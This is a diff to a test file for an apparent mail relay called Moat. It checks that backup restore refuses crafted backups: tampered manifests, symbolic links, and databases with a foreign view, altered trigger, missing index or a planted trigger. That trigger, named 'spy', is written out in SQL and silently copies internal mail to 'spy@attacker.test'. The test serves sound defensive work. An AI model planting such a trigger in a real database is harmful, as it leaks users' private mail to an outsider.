@@ -265,7 +265,7 @@ test('scheduled backups go to the folder on time and only the newest `keep` are 
 });
 
 /** A backup's entries re-packed as they are, but for the manifest (changed by `manifest`) and an entry's tar type. */
-async function repack(file: string, out: string, change: { manifest?: (manifest: Record<string, any>) => void; linkInsteadOf?: { name: string; target: string } }): Promise<void> {
+async function repack(file: string, out: string, change: { manifest?: (manifest: Record<string, any>) => void; linkInsteadOf?: { name: string; target: string }; database?: (db: Database.Database) => void }): Promise<void> {
   const entries: [string, Buffer][] = [];
   for await (const entry of readTar(new ByteReader(createReadStream(file)))) {
     const parts: Buffer[] = [];
@@ -274,6 +274,16 @@ async function repack(file: string, out: string, change: { manifest?: (manifest:
   }
   const manifest = JSON.parse(entries[0]![1].toString('utf8'));
   change.manifest?.(manifest);
+  if (change.database) {
+    const at = entries.findIndex(([name]) => name === 'moat.db');
+    const path = `${out}.db`;
+    writeFileSync(path, entries[at]![1]);
+    const db = new Database(path);
+    change.database(db);
+    db.close();
+    entries[at] = ['moat.db', readFileSync(path)];
+    rmSync(path);
+  }
   entries[0] = [entries[0]![0], Buffer.from(JSON.stringify(manifest))];
   const sums = entries.filter(([name]) => name !== 'moat-backup.sha256').map(([name, data]) => `${createHash('sha256').update(data).digest('hex')}  ${name}`);
   const chunks: Buffer[] = [];
@@ -300,7 +310,7 @@ async function repack(file: string, out: string, change: { manifest?: (manifest:
   writeFileSync(out, Buffer.concat(chunks));
 }
 
-test('moat backup restore refuses a real backup with a crafted manifest or a link entry: the target and a file beside it stay as they were', { timeout: TEST_TIMEOUT_MS }, async () => {
+test('moat backup restore refuses a real backup with a crafted manifest, a link entry or a database schema of its own (a trigger): the target and a file beside it stay as they were', { timeout: TEST_TIMEOUT_MS }, async () => {
   const downPort = await reservePort();
   const base = world();
   const dataDir = join(base, 'source');
@@ -323,6 +333,15 @@ test('moat backup restore refuses a real backup with a crafted manifest or a lin
     ['the manifest names the sentinel by its absolute path', { manifest: (m) => (m.external = [{ name: sentinel, original: '/etc/ssl/x.pem', setting: 'mx.tls.key' }]) }, /a backup keeps it only as external\/mx-tls-key\.pem/],
     ['the manifest names a setting no backup keeps', { manifest: (m) => (m.external = [{ name: 'external/mx-tls-cert.pem', original: '/x', setting: 'admin.password' }]) }, /no setting a backup keeps/],
     ['tls/cert.pem is a symbolic link to the sentinel', { linkInsteadOf: { name: 'tls/cert.pem', target: sentinel } }, /"tls\/cert\.pem" is a symbolic link, not a plain file/],
+    // a trigger runs inside the relay that restores it: this one would copy every inbound message to an outsider
+    [
+      'the database has a trigger of its own',
+      { database: (db) => db.exec(`CREATE TRIGGER spy AFTER INSERT ON recipients WHEN NEW.route = 'internal' BEGIN INSERT INTO recipients (message_id, address, route, next_attempt_at, updated_at) VALUES (NEW.message_id, 'spy@attacker.test', 'outbound', NEW.next_attempt_at, NEW.updated_at); END`) },
+      /its database is not as Moat makes it: trigger spy is not Moat's/,
+    ],
+    ['the database has a view of its own', { database: (db) => db.exec('CREATE VIEW v AS SELECT 1') }, /view v is not Moat's/],
+    ['one of Moat\'s triggers was changed', { database: (db) => db.exec('DROP TRIGGER recipients_queue_update; CREATE TRIGGER recipients_queue_update AFTER UPDATE ON recipients BEGIN SELECT 1; END') }, /trigger recipients_queue_update is not as Moat made it/],
+    ['one of Moat\'s indexes is gone', { database: (db) => db.exec('DROP INDEX messages_received') }, /index messages_received is missing/],
   ];
   for (const [what, change, reason] of crafted) {
     const craftedFile = join(base, 'crafted.moat');
@@ -342,7 +361,8 @@ test('moat backup restore refuses a real backup with a crafted manifest or a lin
   const killedRestore = join(target, `.restore-staging-${deadPid}-0badf00d`);
   mkdirSync(join(killedRestore, 'spool'), { recursive: true });
   writeFileSync(join(killedRestore, 'moat.db'), 'half a restore');
-  await repack(file, join(base, 'crafted.moat'), {});
+  // ANALYZE's statistics are data, not someone else's schema
+  await repack(file, join(base, 'crafted.moat'), { database: (db) => db.exec('ANALYZE') });
   const restored = await runCli(['backup', 'restore', join(base, 'crafted.moat'), '--data-dir', target]);
   assert.equal(restored.code, 0, restored.stderr);
   assert.equal(existsSync(killedRestore), false);
